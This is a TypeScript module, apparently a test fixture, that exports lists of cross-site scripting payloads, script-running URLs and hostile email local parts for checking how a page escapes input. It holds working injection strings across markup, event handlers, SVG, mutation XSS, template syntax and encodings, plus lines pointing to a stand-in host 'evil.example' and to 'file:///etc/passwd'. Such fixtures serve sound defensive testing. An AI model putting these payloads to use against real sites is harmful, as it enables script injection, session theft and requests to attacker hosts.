/** XSS payloads: they run a script if a page uses them as markup, URL, style, or template. */

/** The function that the payloads call. */
export const ALARM = "pwned";

export const PAYLOADS: readonly string[] = [
  // Markup.
  "<script>pwned()</script>",
  "</script><script>pwned()</script>",
  '"><script>pwned()</script>',
  "'><script>pwned()//",
  "<script src=data:text/javascript,pwned()></script>",
  "</title><script>pwned()</script>",
  "</textarea><script>pwned()</script>",
  "--><script>pwned()</script><!--",
  "]]><script>pwned()</script>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  // Handlers.
  "<img src=x onerror=pwned()>",
  "<img/src=x/onerror=pwned()>",
  "<IMG SRC=x OnErRoR=pwned()>",
  '"><img src=x onerror=pwned()>',
  '" autofocus onfocus=pwned() x="',
  "' onmouseover=pwned() autofocus onfocus=pwned() '",
  "<body onload=pwned()>",
  "<details open ontoggle=pwned()>",
  "<input autofocus onfocus=pwned()>",
  "<video><source onerror=pwned()></video>",
  "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=pwned()>",
  // SVG and MathML.
  "<svg onload=pwned()>",
  "<svg><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:pwned()"><text y=20>click</text></a></svg>',
  "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
  '<math href="javascript:pwned()">click</math>',
  // Markup that changes its meaning when parsed twice (mutation XSS).
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  "<template><img src=x onerror=pwned()></template>",
  "<p id=\"&lt;/p&gt;&lt;img src=x onerror=pwned()&gt;\">",
  // URLs.
  "javascript:pwned()",
  "<a href=javascript:pwned()>click</a>",
  "<iframe src=javascript:pwned()></iframe>",
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  "<object data=data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+></object>",
  "<meta http-equiv=refresh content=0;url=javascript:pwned()>",
  "<base href=https://evil.example/>",
  // Styles.
  "</style><style>*{background:url(https://evil.example/x)}</style>",
  // Templates.
  "{{constructor.constructor('pwned()')()}}",
  "${pwned()}#{pwned()}<%= pwned() %>",
  // Letters that normalize to markup, and escapes.
  "＜script＞pwned()＜/script＞",
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
  "%3Cscript%3Epwned()%3C/script%3E",
];

/** Websites that would run a script or open a local resource when clicked. */
export const WEBSITES: readonly string[] = [
  "javascript:pwned()",
  "JaVaScRiPt:pwned()",
  "javascript://example.com/%0Apwned()",
  "java\tscript:pwned()",
  "\u0001javascript:pwned()",
  "javascript&colon;pwned()",
  "data:text/html,<script>pwned()</script>",
  "vbscript:pwned()",
  "blob:https://example.com/1",
  "file:///etc/passwd",
];

/** Hostile local parts of email addresses. */
export const MAILBOXES: readonly string[] = ["${pwned}", "{{pwned}}", "'+pwned+'", "`pwned`", "&pwned"];
